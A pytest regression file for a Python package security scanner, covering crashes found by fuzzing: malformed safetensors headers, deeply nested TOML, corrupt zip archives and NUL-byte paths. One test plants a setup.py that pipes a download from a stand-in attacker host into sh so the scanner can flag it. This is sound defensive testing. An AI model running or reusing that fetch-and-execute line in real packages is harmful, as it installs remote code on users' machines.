"""Crashes and hangs found by the hostile-input work, one test each, so they stay fixed."""

from __future__ import annotations

import io
import json
import struct
import tarfile
import time
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from scanner.checks.models.model_files import validate_safetensors
from scanner.cli import main
from scanner.errors import ArchiveError, ConfigError
from scanner.infra.archive import SafeArchive
from scanner.infra.hashing import hash_files
from scanner.policy import load_config
from scanner.sources.environment import parse_entry_points, parse_record
from tests.helpers.wheels import install_wheel, make_site_packages, make_wheel


def _safetensors(header: dict[str, object], buffer: bytes = b"\0" * 4) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + buffer


def test_safetensors_shape_too_large_for_a_float_is_a_problem_not_a_crash() -> None:
    # Was: OverflowError formatting the needed size (1e360 bytes) as a float.
    data = _safetensors({"t": {"dtype": "F32", "shape": [10**18] * 20, "data_offsets": [0, 4]}})
    problems = validate_safetensors(io.BytesIO(data), len(data))
    assert len(problems) == 1 and "more than the 4" in problems[0]


def test_safetensors_shape_with_many_huge_dims_is_quick() -> None:
    # Was: quadratic big-integer product over 80,000 dimensions (minutes; a hang).
    data = _safetensors({"t": {"dtype": "F32", "shape": [10**18] * 80_000, "data_offsets": [0, 4]}})
    start = time.perf_counter()
    problems = validate_safetensors(io.BytesIO(data), len(data))
    assert time.perf_counter() - start < 5
    assert len(problems) == 1 and len(problems[0]) < 300


def test_safetensors_zero_dim_after_a_huge_one_is_still_zero_bytes() -> None:
    data = _safetensors(
        {"t": {"dtype": "F32", "shape": [10**18, 0], "data_offsets": [0, 0]}}, buffer=b""
    )
    assert validate_safetensors(io.BytesIO(data), len(data)) == []


def test_config_nested_too_deeply_is_a_config_error(tmp_path: Path) -> None:
    # Was: RecursionError out of tomllib, which the CLI turned into exit 3, not 2.
    config = tmp_path / "wormsign.toml"
    config.write_text("a = " + "[" * 3000 + "]" * 3000)
    with pytest.raises(ConfigError, match="nested too deeply"):
        load_config(tmp_path, config)


@pytest.mark.parametrize("text", ["\n[x\n", "junk\n[]\n", " \n\t[unclosed\nname = a:b\n"])
def test_entry_points_without_a_valid_header_do_not_recurse(text: str) -> None:
    # Was: RecursionError (the search for the first header matched at offset 0 forever),
    # which made any environment holding such an entry_points.txt unscannable.
    assert parse_entry_points(text) == ()


def test_zip_needing_an_unknown_version_is_an_archive_error(tmp_path: Path) -> None:
    # Was: NotImplementedError("zip file version 25.0") out of SafeArchive (atheris).
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("pkg/__init__.py", b"x = 1\n")
    data = bytearray(buf.getvalue())
    central = data.index(b"PK\x01\x02")
    data[central + 6 : central + 8] = struct.pack("<H", 250)  # "version needed to extract"
    path = tmp_path / "pkg-1.0-py3-none-any.whl"
    path.write_bytes(bytes(data))
    with pytest.raises(ArchiveError, match="corrupt"):
        SafeArchive(path)


def test_damaged_deflate_stream_is_an_archive_error(tmp_path: Path) -> None:
    # Was: zlib.error ("invalid stored block lengths") out of SafeArchive.read (atheris).
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("pkg/data.py", bytes(range(256)) * 64)
    data = bytearray(buf.getvalue())
    start = data.index(b"pkg/data.py") + len("pkg/data.py")
    data[start : start + 40] = b"\x00\xff" * 20  # the deflate stream itself, headers intact
    path = tmp_path / "pkg-1.0-py3-none-any.whl"
    path.write_bytes(bytes(data))
    with SafeArchive(path) as archive:
        with pytest.raises(ArchiveError):
            archive.read("pkg/data.py")
        with pytest.raises(ArchiveError):
            list(archive.iter_chunks("pkg/data.py"))


def test_nul_byte_in_a_hashed_path_is_an_error_value(tmp_path: Path) -> None:
    # Was: ValueError("embedded null byte") out of hash_files, from a RECORD row whose path
    # holds a NUL (hypothesis): the integrity check crashed instead of reporting the row.
    good = tmp_path / "ok.py"
    good.write_text("x = 1\n")
    results = hash_files([str(good), str(tmp_path / "bad\x00.py")], None, workers=1)
    bad = results[str(tmp_path / "bad\x00.py")]
    assert isinstance(bad, OSError) and "NUL" in str(bad)
    assert not isinstance(results[str(good)], OSError)


def test_nul_byte_in_a_record_path_is_a_malformed_record(tmp_path: Path) -> None:
    # Was: ValueError("embedded null byte") out of the integrity check (hypothesis).
    with pytest.raises(ValueError, match="NUL"):
        parse_record(f"pkg/\x00.py,sha256={'A' * 43},1\n")
    site = make_site_packages(tmp_path / "venv")
    dist_info = install_wheel(
        make_wheel(tmp_path, "demo", "1.0", {"demo/__init__.py": "x=1\n"}), site
    )
    record = dist_info / "RECORD"
    record.write_text(record.read_text() + "demo/\x00evil.py,,\n")
    (site / "demo-0.1.egg-info").mkdir()
    (site / "demo-0.1.egg-info" / "PKG-INFO").write_text("Name: old\nVersion: 0.1\n")
    (site / "demo-0.1.egg-info" / "installed-files.txt").write_text("../old/\x00.py\n")
    (site / "demo-0.1.egg-info" / "top_level.txt").write_text("old\x00\n")
    result = CliRunner().invoke(
        main,
        ["scan", "--no-cache", "--check", "integrity", "--format", "json", str(tmp_path / "venv")],
    )
    assert result.exit_code == 1, result.stderr
    ids = {f["rule_id"] for f in json.loads(result.stdout)["findings"]}
    assert "WS-INT-003" in ids


def test_sdist_with_a_deeply_nested_pyproject_is_scanned(tmp_path: Path) -> None:
    # Was: RecursionError out of tomllib in the heuristics' pyproject reader; the whole
    # scan ended "input nested too deeply to scan" without naming the file (exit 3).
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in {
            "deep-1.0/pyproject.toml": b"a = " + b"[" * 5000 + b"]" * 5000,
            "deep-1.0/setup.py": b"import os\nos.system('curl -s http://evil.example/x | sh')\n",
        }.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    sdist = tmp_path / "deep-1.0.tar.gz"
    sdist.write_bytes(buf.getvalue())
    result = CliRunner().invoke(
        main, ["scan", "--no-cache", "--check", "heuristics", "--format", "json", str(sdist)]
    )
    assert result.exit_code == 1, result.stderr
    assert json.loads(result.stdout)["findings"]
